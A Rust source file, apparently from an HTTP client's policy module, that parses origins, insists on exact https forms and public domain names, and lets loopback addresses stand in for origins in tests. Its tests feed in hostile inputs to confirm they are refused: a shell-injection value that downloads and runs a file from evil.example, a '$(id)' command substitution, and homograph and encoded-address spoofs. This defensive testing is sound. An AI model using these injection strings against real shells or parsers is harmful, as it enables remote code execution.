//! Origins, and the loopback addresses that stand in for them in tests.

use std::fmt;
use std::net::IpAddr;
use std::str::FromStr;

use thiserror::Error;
use url::{Host, Origin, Url};

use crate::foreign::line;

/// How much of an unusable origin is shown, in characters. Our own choice.
const LONGEST_SHOWN: usize = 100;

/// Domains whose names are never on the public internet. Source: IANA's registry of special-use domain names, and
/// ICANN's reservation of `internal`. `example` is among them there, and not here: texts and tests use it.
const NEVER_PUBLIC: [&str; 8] =
    ["alt", "home.arpa", "internal", "invalid", "local", "localhost", "onion", "test"];

/// Why the origins of a manifest, or a loopback address, are refused.
#[derive(Clone, Debug, Error, PartialEq, Eq)]
pub enum PolicyError {
    /// It is not an origin.
    #[error("'{0}' is not an origin: give scheme, host and port, such as https://api.example.com")]
    NotAnOrigin(String),
    /// It is not encrypted.
    #[error("'{0}' is not https")]
    NotHttps(String),
    /// Its host can never be a provider's: an address, or a name that is not on the public internet.
    #[error(
        "'{0}' is not on the public internet: give a domain name, such as api.example.com, and no address"
    )]
    NotPublic(String),
    /// It is an origin in another form than the one that is used.
    #[error("'{given}' has another form than '{exact}', which is meant")]
    NotExact {
        /// As it was given, on one line.
        given: String,
        /// The exact form, in ASCII.
        exact: String,
    },
    /// The list has it twice for one mode.
    #[error("'{0}' is listed twice for the same mode")]
    Twice(String),
    /// This host does not know the authorization scheme.
    #[error("the authorization scheme '{0}' is not known")]
    UnknownAuthorization(String),
    /// The form has no such field, or it is a signing secret.
    #[error("the form has no field '{0}' with the role authorization")]
    UnknownCredential(String),
    /// The field authorises requests and is not secret.
    #[error("the field '{0}' authorises requests, so it must be secret")]
    NotSecret(String),
    /// It is no valid header name, or only the host may set the header.
    #[error("the header '{0}' cannot be used for authorization")]
    InvalidHeader(String),
    /// The replacement is not a loopback address.
    #[error("'{0}' is not a loopback address: give an address such as http://127.0.0.1:8080")]
    NotLoopback(String),
    /// It is not a pair of origins.
    #[error("'{0}' is not a pair such as https://api.example.com=http://127.0.0.1:8080")]
    NoReplacement(String),
}

/// A loopback origin, over plain HTTP.
#[derive(Clone, PartialEq, Eq)]
pub struct LoopbackOrigin(Url);

impl LoopbackOrigin {
    /// Its origin.
    pub(super) fn origin(&self) -> Origin {
        self.0.origin()
    }

    /// A URL of this origin.
    #[must_use]
    pub fn join(&self, path_and_query: &str) -> Option<Url> {
        self.0.join(path_and_query).ok().filter(|url| url.origin() == self.0.origin())
    }

    /// The same path and query on this origin.
    pub(super) fn in_place_of(&self, url: &Url) -> Url {
        let mut address = self.0.clone();
        address.set_path(url.path());
        address.set_query(url.query());
        address
    }
}

impl fmt::Display for LoopbackOrigin {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.0.as_str().trim_end_matches('/'))
    }
}

impl fmt::Debug for LoopbackOrigin {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Display::fmt(self, formatter)
    }
}

impl FromStr for LoopbackOrigin {
    type Err = PolicyError;

    fn from_str(text: &str) -> Result<Self, PolicyError> {
        let url = parse_origin(text)?;
        let is_loopback = match url.host() {
            Some(Host::Ipv4(ip)) => IpAddr::V4(ip).is_loopback(),
            Some(Host::Ipv6(ip)) => IpAddr::V6(ip).is_loopback(),
            Some(Host::Domain(name)) => name == "localhost",
            None => false,
        };
        if is_loopback && url.scheme() == "http" {
            Ok(Self(url))
        } else {
            Err(PolicyError::NotLoopback(text.to_owned()))
        }
    }
}

/// An origin, and the loopback address that stands in for it: `https://a.example=http://127.0.0.1:80`.
#[derive(Clone, Debug)]
pub struct OriginOverride {
    /// The origin.
    pub from: Origin,
    /// The loopback address.
    pub to: LoopbackOrigin,
}

impl FromStr for OriginOverride {
    type Err = PolicyError;

    fn from_str(text: &str) -> Result<Self, PolicyError> {
        let (from, to) =
            text.split_once('=').ok_or_else(|| PolicyError::NoReplacement(text.to_owned()))?;
        Ok(Self { from: parse_origin(from)?.origin(), to: to.parse()? })
    }
}

/// The address on this machine that stands in for a URL. None: nothing stands in for its origin.
#[must_use]
pub fn redirect(url: &Url, overrides: &[OriginOverride]) -> Option<Url> {
    replacement_of(&url.origin(), overrides).map(|replacement| replacement.in_place_of(url))
}

/// The loopback address that stands in for an origin. None: nothing does.
pub(super) fn replacement_of(
    origin: &Origin,
    overrides: &[OriginOverride],
) -> Option<LoopbackOrigin> {
    let replaced = overrides.iter().find(|replaced| replaced.from == *origin)?;
    Some(replaced.to.clone())
}

/// Parses an origin: a URL without a path, a query or a user.
pub(super) fn parse_origin(text: &str) -> Result<Url, PolicyError> {
    let not_an_origin = || PolicyError::NotAnOrigin(text.to_owned());
    let url = Url::parse(text).map_err(|_| not_an_origin())?;
    let is_bare = matches!(url.scheme(), "http" | "https")
        && url.path() == "/"
        && url.query().is_none()
        && url.fragment().is_none()
        && url.username().is_empty()
        && url.password().is_none();
    if is_bare { Ok(url) } else { Err(not_an_origin()) }
}

/// Parses an `https` origin in its one exact form: in ASCII and lower case, without a slash at its end and without
/// the port 443. Every other form may look like an origin that it is not.
pub(super) fn parse_exact(text: &str) -> Result<Url, PolicyError> {
    let shown = || line(text, LONGEST_SHOWN).into_owned();
    let url = parse_origin(text).map_err(|_| PolicyError::NotAnOrigin(shown()))?;
    if url.scheme() != "https" {
        return Err(PolicyError::NotHttps(shown()));
    }
    // The standard allows signs that mean something to a shell.
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b".-_[]:".contains(&byte);
    if !url.host_str().is_some_and(|host| host.bytes().all(is_plain)) {
        return Err(PolicyError::NotAnOrigin(shown()));
    }
    let exact = url.origin().ascii_serialization();
    if exact != text {
        return Err(PolicyError::NotExact { given: shown(), exact });
    }
    if is_public_name(&url) { Ok(url) } else { Err(PolicyError::NotPublic(shown())) }
}

/// The exact form of an `https` origin, if a text is that.
///
/// # Errors
///
/// It is no `https` origin, or has another form.
pub fn exact_origin(text: &str) -> Result<String, PolicyError> {
    parse_exact(text).map(|url| url.origin().ascii_serialization())
}

/// Parses an `https` URL without a user, in its exact form.
pub(super) fn parse_https(text: &str) -> Result<Url, PolicyError> {
    let shown = || line(text, LONGEST_SHOWN).into_owned();
    let is_plain = |url: &Url| {
        url.scheme() == "https" && url.username().is_empty() && url.password().is_none()
    };
    let url = Url::parse(text).ok().filter(is_plain);
    let url = url.ok_or_else(|| PolicyError::NotHttps(shown()))?;
    if url.as_str() != text {
        return Err(PolicyError::NotExact { given: shown(), exact: url.to_string() });
    }
    if is_public_name(&url) { Ok(url) } else { Err(PolicyError::NotPublic(shown())) }
}

/// Whether the host of a URL is a name that may be on the public internet. An address is not one: it would need no
/// resolver, and providers have names. Nor is a name that ends in a dot, which is another origin than the one without.
fn is_public_name(url: &Url) -> bool {
    let Some(Host::Domain(name)) = url.host() else { return false };
    let is_below = |special: &&str| {
        name.strip_suffix(*special).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
    };
    name.contains('.') && !name.ends_with('.') && !NEVER_PUBLIC.iter().any(is_below)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn origin_has_one_exact_form() {
        let exact = |text: &str| parse_exact(text).map(|url| url.host_str().map(str::to_owned));
        for text in ["https://api.stand.example", "https://api.example:8443"] {
            assert!(exact(text).is_ok(), "{text}");
        }
        // The first has a Cyrillic letter.
        for (text, meant) in [
            ("https://аpi.example.com", Some("https://xn--pi-6kc.example.com")),
            ("https://api.example.com\n", Some("https://api.example.com")),
            ("https://api.exa\nmple.com", Some("https://api.example.com")),
            ("https://api。example.com", Some("https://api.example.com")),
            ("https://0x7f.1", Some("https://127.0.0.1")),
            ("https://2130706433", Some("https://127.0.0.1")),
            ("https://API.example.com", Some("https://api.example.com")),
            ("https://api.example.com/", Some("https://api.example.com")),
            ("https://api.example.com:443", Some("https://api.example.com")),
            ("https:\\\\api.example.com", Some("https://api.example.com")),
            (" https://api.example.com", Some("https://api.example.com")),
            ("https://a;{curl,-o,x,evil.example};{sh,x}", None),
            ("https://$(id).example", None),
            ("https://api.example.com/x", None),
            ("https://user@api.example.com", None),
            ("https://api.example.com?x", None),
            ("http://api.example.com", None),
            ("", None),
        ] {
            let refused = exact(text).unwrap_err();
            if let Some(meant) = meant {
                assert!(
                    matches!(&refused, PolicyError::NotExact { exact, .. } if exact == meant),
                    "{text}: {refused}"
                );
            }
            assert!(refused.to_string().chars().all(crate::foreign::is_visible), "{text}");
        }
    }

    #[test]
    fn host_that_is_never_public_is_refused() {
        for host in [
            "127.0.0.1",
            "1.1.1.1",
            "169.254.169.254",
            "[::1]",
            "[2606:4700:4700::1111]",
            "[::ffff:10.0.0.1]",
            "localhost",
            "api.localhost",
            "printer.local",
            "metadata.google.internal",
            "router.home.arpa",
            "api.test",
            "api.invalid",
            "api",
            "api.example.com.",
            "localhost.",
        ] {
            // Its exact form, so that nothing else refuses it.
            let url = Url::parse(&format!("https://{host}/")).unwrap();
            let origin = url.origin().ascii_serialization();
            let refused =
                |of: Result<Url, PolicyError>| matches!(of, Err(PolicyError::NotPublic(_)));
            assert!(refused(parse_exact(&origin)), "{origin}");
            assert!(refused(parse_https(url.as_str())), "{url}");
        }
        for host in ["api.mylocal", "internal.example.com", "arpa.example"] {
            assert!(parse_exact(&format!("https://{host}")).is_ok(), "{host}");
        }
    }

    #[test]
    fn only_loopback_may_stand_in() {
        let accepted = ["http://127.0.0.1:80", "http://[::1]:1", "http://localhost:9/"];
        for text in accepted {
            assert!(text.parse::<LoopbackOrigin>().is_ok(), "{text}");
        }
        let refused = [
            "https://127.0.0.1:80",
            "http://10.0.0.1:80",
            "http://localhost.example.com",
            "http://127.0.0.1:80/path",
            "http://user@127.0.0.1:80",
            "127.0.0.1:80",
            "",
        ];
        for text in refused {
            assert!(text.parse::<LoopbackOrigin>().is_err(), "{text}");
        }
    }
}
